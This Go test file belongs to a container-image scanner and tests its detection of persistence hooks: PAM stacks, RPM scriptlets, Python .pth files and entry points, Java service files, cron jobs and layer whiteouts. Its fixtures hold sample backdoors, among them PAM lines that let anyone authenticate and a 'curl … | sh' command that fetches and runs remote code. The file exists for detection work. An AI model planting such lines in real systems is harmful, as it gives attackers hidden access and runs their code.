package autorun

import (
	"encoding/binary"
	"slices"
	"strings"
	"testing"

	"github.com/backtrail/backtrail/inspect"
	"github.com/backtrail/backtrail/inspect/layer/layertest"
)

// pamOf is an image with one stack of PAM, and files beside it.
func pamOf(name, text string, more ...member) image {
	return image{members: append([]member{file(name, text)}, more...)}
}

// Linux-PAM reads more than one line of the form TYPE CONTROL MODULE: what somebody writes so that a reader of lines does
// not see it is seen, each with the twin that opens nothing.
func TestStacksOfPAMAsTheyAreRead(t *testing.T) {
	const sshd = "etc/pam.d/sshd"
	open := "auth sufficient pam_permit.so\n"
	for name, test := range map[string]struct {
		now  image
		want string
	}{
		"a line that goes on": {
			pamOf(sshd, "auth \\\n  sufficient \\\n  pam_permit.so\n"), "high pam /etc/pam.d/sshd",
		},
		"a line that goes on to nothing": {
			pamOf(sshd, "auth required pam_unix.so \\"), "low pam /etc/pam.d/sshd",
		},
		"capital letters": {pamOf(sshd, "AUTH Sufficient pam_permit.so\n"), "high pam /etc/pam.d/sshd"},
		"a dash before the type": {
			pamOf(sshd, "-auth sufficient /lib/security/pam_permit.so\n"), "high pam /etc/pam.d/sshd",
		},
		"tabs between": {pamOf(sshd, "auth\tsufficient\tpam_permit.so\n"), "high pam /etc/pam.d/sshd"},
		"the file of all services": {
			pamOf("etc/pam.conf", "sshd auth sufficient pam_permit.so\n"), "high pam /etc/pam.conf",
		},
		"the file of all services, ordinary": {
			pamOf("etc/pam.conf", "sshd auth required pam_unix.so\nOTHER auth required pam_deny.so\n"),
			"info pam /etc/pam.conf",
		},
		"a program in the session": {
			pamOf(sshd, "session optional pam_exec.so quiet /opt/x\n"), "high pam /etc/pam.d/sshd",
		},
		"a program for passwords": {
			pamOf(sshd, "auth optional pam_exec.so expose_authtok /opt/x\n"), "high pam /etc/pam.d/sshd",
		},
		"included from elsewhere": {
			pamOf(sshd, "@include /opt/auth\n", file("opt/auth", open)), "high pam /etc/pam.d/sshd",
		},
		"a stack below another": {
			pamOf(sshd, "auth substack /opt/auth\n", file("opt/auth", open)), "high pam /etc/pam.d/sshd",
		},
		"up and out of the directory": {
			pamOf(sshd, "auth include ../../opt/auth\n", file("opt/auth", open)), "high pam /etc/pam.d/sshd",
		},
		"included and ordinary": {
			pamOf(sshd, "@include /opt/auth\n", file("opt/auth", "auth required pam_unix.so\n")),
			"low pam /etc/pam.d/sshd",
		},
		"included and not there":  {pamOf(sshd, "@include /opt/none\n"), "low pam /etc/pam.d/sshd"},
		"a directory is included": {pamOf(sshd, "@include /opt/d\n", dir("opt/d/")), "low pam /etc/pam.d/sshd"},
		"a comment":               {pamOf(sshd, "# auth sufficient pam_permit.so\n"), "low pam /etc/pam.d/sshd"},
		"permitted accounts": {
			pamOf(sshd, "account sufficient pam_permit.so\n"), "low pam /etc/pam.d/sshd",
		},
		"the last line of Debian": {
			pamOf(sshd, "auth required pam_permit.so\n"), "low pam /etc/pam.d/sshd",
		},
		"a module of a hidden place": {
			pamOf(sshd, "auth optional /usr/lib/.x/pam_y.so\n", exe("usr/lib/.x/pam_y.so", program("pam"))),
			"high pam /etc/pam.d/sshd",
		},
		"a name that is like the module's": {
			pamOf(sshd, "auth sufficient pam_permits.so\n"), "low pam /etc/pam.d/sshd",
		},
	} {
		t.Run(name, func(t *testing.T) {
			got := listed(inspected(t, test.now, nil))
			if !slices.Contains(got, test.want) {
				t.Errorf("got %q, want %q", got, test.want)
			}
		})
	}
}

// The lines of a stack: continued ones are joined, comments left out, the service cut off where there is one.
func TestLinesOfAStack(t *testing.T) {
	for text, want := range map[string]struct{ plain, service []string }{
		"auth a b\n":              {[]string{"auth a b"}, []string{"a b"}},
		"auth \\\n a \\\n b\n":    {[]string{"auth a b"}, []string{"a b"}},
		"\n \n#x\n":               {nil, nil},
		"sshd auth a b\\":         {[]string{"sshd auth a b"}, []string{"sshd auth a b"}},
		"a\tb c\r\n":              {[]string{"a b c"}, []string{"b c"}},
		"# x \\\nauth a b\nc d\n": {[]string{"c d"}, []string{"x auth a b", "d"}},
	} {
		if got := pamLines([]byte(text), false); !slices.Equal(spaced(got), want.plain) {
			t.Errorf("%q: %q", text, got)
		}
		if got := pamLines([]byte(text), true); !slices.Equal(spaced(got), want.service) {
			t.Errorf("%q of all services: %q", text, got)
		}
	}
}

// spaced puts one space between the words of each line.
func spaced(lines []string) []string {
	var all []string
	for _, line := range lines {
		all = append(all, strings.Join(strings.Fields(line), " "))
	}
	return all
}

// rpmOf is an image with rpm's database in a place, holding packages with the scripts of a map.
func rpmOf(place, content string, more ...member) image {
	return image{members: append([]member{file(place, content)}, more...)}
}

// The scripts of rpm's packages stand in its database, whatever form that has.
func TestScriptsOfRPM(t *testing.T) {
	evil := layertest.RPMScripted("openssl", 8, map[int32]string{1024: "#!/bin/sh\n" + fetch})
	calm := layertest.RPMScripted("glibc", 8, map[int32]string{1024: "/sbin/ldconfig\n", 1026: "/sbin/ldconfig\n"})
	none := layertest.RPMHeader("setup", 8)
	for name, test := range map[string]struct {
		place, content string
		want           []string
	}{
		"SQLite": {
			"usr/lib/sysimage/rpm/rpmdb.sqlite", layertest.SQLite(t, none, evil, calm),
			[]string{"high openssl", "info glibc", "info glibc"},
		},
		"rpm's own form": {
			"var/lib/rpm/Packages.db", layertest.NDB(none, evil, calm),
			[]string{"high openssl", "info glibc", "info glibc"},
		},
		"Berkeley DB": {
			"var/lib/rpm/Packages", layertest.BDB(binary.LittleEndian, none, evil, calm),
			[]string{"high openssl", "info glibc", "info glibc"},
		},
		"Berkeley DB of another machine": {
			"var/lib/rpm/Packages", layertest.BDB(binary.BigEndian, calm, evil),
			[]string{"high openssl", "info glibc", "info glibc"},
		},
		"calm ones":    {"var/lib/rpm/Packages.db", layertest.NDB(calm), []string{"info glibc", "info glibc"}},
		"no scripts":   {"var/lib/rpm/Packages.db", layertest.NDB(none), nil},
		"no database":  {"var/lib/rpm/Packages.db", "RpmP and nothing", nil},
		"not its name": {"var/lib/rpm/Name", layertest.NDB(evil), nil},
		"a trigger": {
			"var/lib/rpm/Packages.db",
			layertest.NDB(layertest.RPMScripted("x", 8, map[int32]string{1065: fetch})),
			[]string{"high x"},
		},
		"before all others": {
			"var/lib/rpm/Packages.db",
			layertest.NDB(layertest.RPMScripted("x", 8, map[int32]string{1151: fetch})),
			[]string{"high x"},
		},
	} {
		t.Run(name, func(t *testing.T) {
			var got []string
			for _, a := range inspected(t, rpmOf(test.place, test.content), nil).Images[0].Autoruns {
				if a.Kind == KindMaintainerScript {
					got = append(got, string(a.Severity)+" "+a.Owner)
				}
			}
			if slices.Sort(got); !slices.Equal(got, test.want) {
				t.Errorf("got %q, want %q", got, test.want)
			}
		})
	}
}

// A script that a known-good has with the same words is no change; one that says something else is.
func TestAScriptOfRPMThatChanged(t *testing.T) {
	header := func(text string) string {
		return layertest.NDB(layertest.RPMScripted("openssl", 8, map[int32]string{1024: text}))
	}
	const place = "var/lib/rpm/Packages.db"
	good := rpmOf(place, header("/sbin/ldconfig\n"))
	a := rowOf(t, inspected(t, rpmOf(place, header("/sbin/ldconfig\n")), &good), KindMaintainerScript)
	if a.New == nil || *a.New || a.Severity != inspect.Info {
		t.Errorf("the same: %+v", a)
	}
	a = rowOf(t, inspected(t, rpmOf(place, header("/sbin/ldconfig\n"+fetch)), &good), KindMaintainerScript)
	if a.Severity != inspect.High || !slices.Contains(a.Codes, inspect.CodeChangedSinceKnownGood) {
		t.Errorf("a changed one: %+v", a)
	}
}

// A list of a language's package may name any path below its root; it does not vouch for what starts with the system.
func TestLanguagesDoNotVouchForTheSystem(t *testing.T) {
	job := "* * * * * root /usr/bin/ls\n"
	up := "../../../../../"
	for name, test := range map[string]struct {
		members []member
		want    string
	}{
		"a RECORD that names a job": {
			wheel("x", "1", file(up+"etc/cron.d/x", job), file("x.py", "")), "low cron /etc/cron.d/x",
		},
		"a list of conda that names a job": {
			[]member{
				file("conda-meta/x-1-0.json", `{"name": "x", "version": "1", "files": ["etc/cron.d/x"]}`),
				file("etc/cron.d/x", job),
			}, "low cron /etc/cron.d/x",
		},
		"a RECORD that names a unit": {
			wheel("x", "1", file(up+"usr/lib/systemd/system/x.service", "[Service]\nExecStart=/usr/bin/ls\n")),
			"low unit /usr/lib/systemd/system/x.service",
		},
		"a package of the system that has one": {
			dpkgOf(map[string][]member{"x": {file("etc/cron.d/x", job)}}, "x"), "",
		},
	} {
		t.Run(name, func(t *testing.T) {
			members := test.members
			if test.want == "" {
				members = append(members, file("etc/cron.d/x", job))
			}
			got := listed(inspected(t, image{members: members}, nil))
			if test.want == "" {
				if slices.Contains(got, "low cron /etc/cron.d/x") {
					t.Errorf("an owned job is raised: %q", got)
				}
				return
			}
			if !slices.Contains(got, test.want) {
				t.Errorf("got %q, want %q", got, test.want)
			}
		})
	}
}

// A module that a package of the system owns is looked at where a hook loads it: for strong signs only.
func TestAnOwnedModuleThatAHookLoads(t *testing.T) {
	const at = "usr/local/lib/python3.13/site-packages/"
	strong := "import os\nos.system('curl -s http://203.0.113.1/x | sh')\n"
	weak := "import subprocess\nsubprocess.run(['ls'])\n"
	for name, test := range map[string]struct {
		module, path string
		want         inspect.Severity
	}{
		"a strong sign":       {strong, at + "shim.py", inspect.High},
		"a weak sign":         {weak, at + "shim.py", inspect.Info},
		"none":                {"x = 1\n", at + "shim.py", inspect.Info},
		"in its __init__":     {strong, at + "shim/__init__.py", inspect.High},
		"of no such name":     {strong, at + "other.py", inspect.Info},
		"a comment is no one": {"# curl -s http://203.0.113.1/x | sh\n", at + "shim.py", inspect.Info},
	} {
		t.Run(name, func(t *testing.T) {
			pth, module := file(at+"shim.pth", "import shim\n"), file(test.path, test.module)
			members := append([]member{pth, module}, dpkgOf(map[string][]member{"python3-shim": {pth, module}},
				"python3-shim")...)
			c := inspected(t, image{members: members}, nil)
			a := rowOf(t, c, KindPythonPth)
			if a.Severity != test.want || a.Owner != "python3-shim" {
				t.Errorf("%s of %q, want %s", a.Severity, a.Owner, test.want)
			}
		})
	}
}

// What an installed distribution declares: plugins that a tool loads by itself are rows, programs are not.
func TestEntryPointsOfPython(t *testing.T) {
	const info = site + "/x-1.dist-info/entry_points.txt"
	plugin := "[console_scripts]\nx = x:main\n\n[pytest11]\nx = x.plugin:start\n"
	evil := file(site+"/x/plugin.py", "import os\nos.system('curl -s http://203.0.113.1/x | sh')\n")
	calm := file(site+"/x/plugin.py", "def pytest_configure(config):\n    pass\n")
	for name, test := range map[string]struct {
		members []member
		want    []string
	}{
		"a plugin that fetches": {
			[]member{file(info, plugin), evil}, []string{"high python-entry-point /" + info},
		},
		"a plugin": {[]member{file(info, plugin), calm}, []string{"info python-entry-point /" + info}},
		"a plugin of a module that is not there": {
			[]member{file(info, plugin)}, []string{"info python-entry-point /" + info},
		},
		"programs only": {
			[]member{file(info, "[console_scripts]\nx = x.plugin:main\n[gui_scripts]\ny = x.plugin:main\n"), evil}, nil,
		},
		"loaded by name": {[]member{file(info, "[flask.commands]\nx = x.plugin\n"), evil}, nil},
		"a comment":      {[]member{file(info, "[pytest11]\n# x = x.plugin\n; y\n"), evil}, nil},
		"a file of that name elsewhere": {
			[]member{file("opt/entry_points.txt", plugin), evil}, nil,
		},
		"of an egg": {
			[]member{
				file(site+"/x.egg-info/entry_points.txt", "[setuptools.finalize_distribution_options]\ny = x.plugin:run [extra]\n"),
				evil,
			}, []string{"high python-entry-point /" + site + "/x.egg-info/entry_points.txt"},
		},
		"spaces in brackets": {
			[]member{file(info, "[ pytest11 ]\n  x  =  x.plugin  \n"), evil},
			[]string{"high python-entry-point /" + info},
		},
	} {
		t.Run(name, func(t *testing.T) {
			if got := listed(inspected(t, image{members: test.members}, nil)); !slices.Equal(got, test.want) {
				t.Errorf("got  %q\nwant %q", got, test.want)
			}
		})
	}
}

// Files by which Java finds classes without naming them: calm unless the class beside them shows a strong sign.
func TestServicesOfJava(t *testing.T) {
	const services = "srv/app/classes/META-INF/services/"
	class := file("srv/app/classes/evil/Provider.class",
		"\xca\xfe\xba\xbe\x00\x00\x00\x41 curl -s http://203.0.113.1/x | sh \x00")
	for name, test := range map[string]struct {
		members []member
		want    []string
	}{
		"a driver": {
			[]member{file(services+"java.sql.Driver", "org.example.Driver\n")},
			[]string{"info java-service /" + services + "java.sql.Driver"},
		},
		"several, with comments": {
			[]member{file(services+"x.Y", "# made\norg.example.A # one\n\norg.example.B\n")},
			[]string{"info java-service /" + services + "x.Y"},
		},
		"a comment alone": {[]member{file(services+"x.Y", "# none\n")}, nil},
		"a file of that folder elsewhere": {
			[]member{file("opt/services/x.Y", "evil.Provider\n"), class}, nil,
		},
		"a folder below it": {[]member{file(services+"deep/x.Y", "evil.Provider\n")}, nil},
	} {
		t.Run(name, func(t *testing.T) {
			if got := listed(inspected(t, image{members: test.members}, nil)); !slices.Equal(got, test.want) {
				t.Errorf("got  %q\nwant %q", got, test.want)
			}
		})
	}
	a := rowOf(t, inspected(t, image{members: []member{file(services+"x.Y", "evil.Provider\n"), class}}, nil),
		KindJavaService)
	if a.Command != "evil.Provider" || !strings.Contains(a.Trigger, "x.Y") {
		t.Errorf("%+v", a)
	}
}

// Directories of the loader come from every file that ld.so.conf includes, and from those that these include.
func TestDirectoriesOfTheLoader(t *testing.T) {
	tree := treeOf(t, image{members: []member{
		file("etc/ld.so.conf", "include /etc/ld.so.conf.d/*.conf\ninclude more/*.conf\n/opt/first\n"),
		file("etc/ld.so.conf.d/a.conf", "/opt/a\n# /opt/no\n"), file("etc/ld.so.conf.d/a.txt", "/opt/no\n"),
		file("etc/more/b.conf", "/opt/b\nrelative\n"),
	}}.target(t))
	got := LibraryDirs(t.Context(), tree)
	for _, want := range []string{"/opt/first", "/opt/a", "/opt/b", "/lib", "/usr/lib"} {
		if !slices.Contains(got, want) {
			t.Errorf("%s is not among %q", want, got)
		}
	}
	for _, no := range []string{"/opt/no", "relative", "/relative"} {
		if slices.Contains(got, no) {
			t.Errorf("%s is among %q", no, got)
		}
	}
}

// ".." behind a link goes up from where the link leads to, as the kernel has it.
func TestUpFromBehindALink(t *testing.T) {
	c := inspected(t, image{members: []member{
		dir("opt/"), dir("srv/"), dir("srv/a/"), symlink("opt/link", "/srv/a"),
		file("srv/job.sh", "#!/bin/sh\n"+fetch), file("opt/job.sh", "#!/bin/sh\necho\n"),
		file("etc/cron.d/x", "@hourly root /opt/link/../job.sh\n"),
	}}, nil)
	if got := listed(c); !slices.Contains(got, "high cron /etc/cron.d/x") {
		t.Errorf("%q", got)
	}
	if got := below("/opt/link", "../x"); got != "/opt/link/../x" {
		t.Errorf("below: %q", got)
	}
	if got := below("", "x"); got != "/x" {
		t.Errorf("below nothing: %q", got)
	}
}

// A hook that lies in a lower layer and is taken away by an upper one starts nothing; one that an upper layer puts in the
// place of a lower one is that of the upper.
func TestHooksThatLayersTakeAway(t *testing.T) {
	_, base := debian()
	job := file("etc/cron.d/x", "* * * * * root "+fetch)
	for name, test := range map[string]struct {
		layers []layerSpec
		want   []string
	}{
		"taken away":      {[]layerSpec{step("RUN a", job), step("RUN b", file("etc/cron.d/.wh.x", ""))}, nil},
		"by a mark":       {[]layerSpec{step("RUN a", job), step("RUN b", file("etc/cron.d/.wh..wh..opq", ""))}, nil},
		"with its parent": {[]layerSpec{step("RUN a", job), step("RUN b", file("etc/.wh.cron.d", ""))}, nil},
		"put back": {
			[]layerSpec{step("RUN a", job), step("RUN b", file("etc/cron.d/.wh.x", "")), step("RUN c", job)},
			[]string{"high cron /etc/cron.d/x"},
		},
		"replaced": {
			[]layerSpec{step("RUN a", job), step("RUN b", file("etc/cron.d/x", "@daily root /usr/bin/ls\n"))},
			[]string{"low cron /etc/cron.d/x"},
		},
		"a mark beside what the layer brings": {
			[]layerSpec{step("RUN a", dir("etc/cron.d/")), step("RUN b", job, file("etc/cron.d/.wh..wh..opq", ""))},
			[]string{"high cron /etc/cron.d/x"},
		},
		"a mark for another name": {
			[]layerSpec{step("RUN a", job), step("RUN b", file("etc/cron.d/.wh.y", ""))},
			[]string{"high cron /etc/cron.d/x"},
		},
	} {
		t.Run(name, func(t *testing.T) {
			target := imageOf(t, image{}.config, append([]layerSpec{base}, test.layers...)...)
			if got := listed(inspectedAt(t, target, nil)); !slices.Equal(got, test.want) {
				t.Errorf("got %q, want %q", got, test.want)
			}
		})
	}
}
